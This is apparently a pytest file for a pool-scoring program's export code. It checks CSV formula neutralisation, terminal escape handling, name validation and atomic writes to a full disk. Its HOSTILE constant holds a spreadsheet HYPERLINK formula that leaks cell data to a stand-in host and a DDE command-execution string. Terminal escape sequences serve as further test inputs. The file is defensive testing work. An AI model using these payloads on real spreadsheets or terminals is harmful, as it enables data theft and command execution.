"""The history's exports stay data (issue 23, items 9, 11, 12): a player's name that a
spreadsheet would run as a formula arrives as text, a name cannot drive the terminal it is
printed on, an export is written whole or not at all, and the rules refuse names no screen
can show."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from railbird.history.export import terminal_safe, to_csv, to_table
from railbird.rules import GAMES
from railbird.rules.errors import BadInput
from tests.history.conftest import TZ
from tests.history.nights import Night, at

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"Ann")', "@SUM(1+1)*cmd|' /C calc'!A0")


def _night_of(path, players) -> None:
    night = Night(path)
    night.table("t1", {"type": "match", "game": "10-ball", "players": list(players),
                       "race_to": 2})  # fmt: skip
    night.referee("t1", at("2026-11-27 20:00"), {"type": "lag", "winner": players[0]})
    night.close()


def _history(*args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "railbird", "history", *args],
        capture_output=True,
        text=True,
        env=dict(os.environ, TZ=TZ),
        timeout=60,
    )


def test_formula_names_arrive_in_the_csv_as_text(tmp_path):
    path = tmp_path / "journal.sqlite"
    _night_of(path, HOSTILE)
    r = _history("--journal", str(path), "--format", "csv")
    assert r.returncode == 0, r.stderr
    row = next(csv.DictReader(io.StringIO(r.stdout)))
    # OWASP: a leading apostrophe, which a spreadsheet shows as text and hides
    assert (row["player_a"], row["player_b"]) == tuple("'" + p for p in HOSTILE)
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_numbers_and_plain_text_are_written_as_they_are():
    text = to_csv(("a", "b", "c", "d"), [{"a": -19, "b": "Ann", "c": None, "d": "-Di"}])
    assert text.splitlines()[1] == "-19,Ann,,'-Di"


def test_control_characters_are_escaped_on_the_terminal():
    assert terminal_safe("Ann\x1b[2J\x07") == "Ann\\x1b[2J\\x07"
    out = to_table(("players",), [{"players": "A\x1b]0;owned\x07 v B"}])
    assert "\x1b" not in out and "\x07" not in out
    assert "A\\x1b]0;owned\\x07 v B" in out


def test_the_rules_refuse_names_no_screen_can_show():
    tenball = GAMES["10-ball"]
    match = {"type": "match", "game": "10-ball", "race_to": 2}
    with pytest.raises(BadInput, match="at most 64 characters"):
        tenball.new_match(dict(match, players=["A" * 65, "Bob"]))
    with pytest.raises(BadInput, match="control characters"):
        tenball.new_match(dict(match, players=["Ann\x1b[31m", "Bob"]))
    with pytest.raises(BadInput, match="control characters"):
        tenball.new_match(dict(match, players=["Ann\nBob", "Cy"]))
    st = tenball.new_match(dict(match, players=["A" * 64, "Zoë"]))
    assert st.players == ("A" * 64, "Zoë")


@pytest.fixture
def tiny_disk(tmp_path):
    """A 64 KiB tmpfs: a real full disk (needs root to mount)."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    mnt = tmp_path / "disk"
    mnt.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mnt)],
                       capture_output=True, text=True)  # fmt: skip
    if r.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {r.stderr.strip()}")
    yield mnt
    subprocess.run(["umount", str(mnt)], check=False)


def test_a_full_disk_leaves_no_truncated_export(tmp_path, tiny_disk):
    path = tmp_path / "journal.sqlite"
    night = Night(path)
    night.table("t1", None)
    for n in range(600):  # a row of pocket counts a day: more than 64 KiB of JSON
        night.shot("t1", at("2026-11-27 20:00") + n * 86400, ["HL", "FR"])
    night.close()
    target = tiny_disk / "counts.json"
    r = _history("--journal", str(path), "--counts", "day", "--format", "json", "-o", str(target))
    full = _history("--journal", str(path), "--counts", "day", "--format", "json").stdout
    if len(full.encode()) <= 64 * 1024:
        pytest.fail(f"the export must exceed the disk to test this ({len(full)} bytes)")
    assert r.returncode == 2, r.stderr
    assert "--output" in r.stderr and "space" in r.stderr.lower()
    assert os.listdir(tiny_disk) == []  # neither a truncated file nor the temporary one
    # an export that fits is written whole, with an ordinary file's mode
    small = tiny_disk / "matches.csv"
    r = _history("--journal", str(path), "--format", "csv", "-o", str(small))
    assert r.returncode == 0, r.stderr
    assert small.read_text().startswith("venue,table,game")
    assert oct(small.stat().st_mode & 0o777) == oct(0o666 & ~_umask())


def _umask() -> int:
    m = os.umask(0)
    os.umask(m)
    return m
